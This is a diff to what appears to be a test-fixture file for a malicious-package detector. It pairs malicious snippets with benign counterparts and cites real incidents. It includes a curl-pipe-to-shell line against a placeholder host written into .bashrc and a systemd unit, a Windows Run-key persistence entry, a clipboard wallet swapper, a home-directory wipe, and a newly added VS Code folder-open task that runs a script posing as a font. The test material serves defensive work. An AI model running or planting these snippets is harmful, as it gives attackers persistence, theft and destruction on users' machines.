@@ -1,10 +1,22 @@
 """Behaviours that take over: shells, start-up places, wallets, other packages, destruction."""
 
-from tests.twins.behaviour import HELD_ALWAYS, HELD_BY_ITSELF, HOST, Behaviour, Code, behaviour
+from tests.twins.behaviour import HELD_ALWAYS, HELD_BY_ITSELF, HOST, Behaviour, Code, Moment, behaviour
 
 _LINE = f"curl -s {HOST}/s | sh"
 _RUN_KEY = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
 _UNIT = f"[Service]\\nExecStart=/bin/sh -c '{_LINE}'\\n[Install]\\nWantedBy=default.target\\n"
+_TASKS = """{
+  // made by hand
+  "version": "2.0.0",
+  "tasks": [
+    {"label": "env", "type": "shell", "command": "COMMAND", "runOptions": {"runOn": "folderOpen"}}
+  ]
+}
+"""
+_SCRIPT = (
+    "const { execSync } = require('child_process');\nconst os = require('os');\n"
+    "console.log('inert marker', os.hostname(), typeof execSync);\n"
+) * 3
 _ETHEREUM = "0x" + "ab" * 20
 
 BEHAVIOURS: tuple[Behaviour, ...] = (
@@ -38,7 +50,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
         "profile-changed",
         "adds a line that fetches and runs a script to a shell profile",
         "SANDWORM_MODE (2026), PyPI collection of 2023-24",
-        HELD_ALWAYS,
+        HELD_BY_ITSELF,
         js=(
             "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n"
             f"fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\n{_LINE} &\\n');\n"
@@ -88,7 +100,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
         ),
         rb=(
             "require 'win32/registry'\n"
-            "Win32::Registry::HKEY_CURRENT_USER.open('Software\\Microsoft\\Windows\\CurrentVersion\\Run', Win32::Registry::KEY_WRITE) do |key|\n"
+            "Win32::Registry::HKEY_CURRENT_USER.create('Software\\Microsoft\\Windows\\CurrentVersion\\Run') do |key|\n"
             "  key['Updater'] = File.join(ENV['APPDATA'], 'u.exe')\nend\n"
         ),
         sh=f'reg add {_RUN_KEY} /v Updater /d "%APPDATA%\\u.exe" /f\n',
@@ -167,16 +179,23 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
             "import re\nimport time\nimport pyperclip\nwhile True:\n    text = pyperclip.paste()\n"
             f"    if re.match(r'^0x[a-fA-F0-9]{{40}}$', text):\n        pyperclip.copy('{_ETHEREUM}')\n    time.sleep(1)\n"
         ),
-        rb=(
-            "require 'clipboard'\nloop do\n  text = Clipboard.paste\n"
-            f"  Clipboard.copy('{_ETHEREUM}') if text =~ /^0x[a-fA-F0-9]{{40}}$/\n  sleep 1\nend\n"
-        ),
         benign={
             Code.JAVASCRIPT: "const clipboardy = require('clipboardy');\nclipboardy.writeSync('npm i sample');\n",
             Code.PYTHON: "import pyperclip\npyperclip.copy('pip install sample')\n",
-            Code.RUBY: "require 'clipboard'\nClipboard.copy('gem install sample')\n",
         },
-        absent={Code.SHELL: "no incident does so in a shell"},
+        absent={
+            Code.RUBY: "the incident (RubyGems, 2020) writes and starts a script of Windows for it",
+            Code.SHELL: "no incident does so in a shell",
+        },
+    ),
+    behaviour(
+        "editor-task",
+        "has an editor start a script under the name of a font when the folder is opened",
+        "Contagious Interview (2026)",
+        {Moment.OPENED: HELD_ALWAYS[Moment.OPENED]},
+        tasks=_TASKS.replace("COMMAND", "node .vscode/fonts/icons.woff2"),
+        files={Code.TASKS: {"fonts/icons.woff2": _SCRIPT}},
+        benign={Code.TASKS: _TASKS.replace("COMMAND", "npm run watch")},
     ),
     behaviour(
         "published-again",
@@ -210,7 +229,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
         HELD_BY_ITSELF,
         js="const fs = require('fs');\nconst os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });\n",
         py="import os\nimport shutil\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n",
-        rb="require 'fileutils'\nFileUtils.rm_rf(Dir.home)\n",
+        rb="require 'fileutils'\nFileUtils.rm_rf(File.expand_path('~'))\n",
         sh="rm -rf ~/\n",
         benign={
             Code.JAVASCRIPT: "const fs = require('fs');\nconst path = require('path');\nfs.rmSync(path.join(__dirname, 'build'), { recursive: true, force: true });\n",
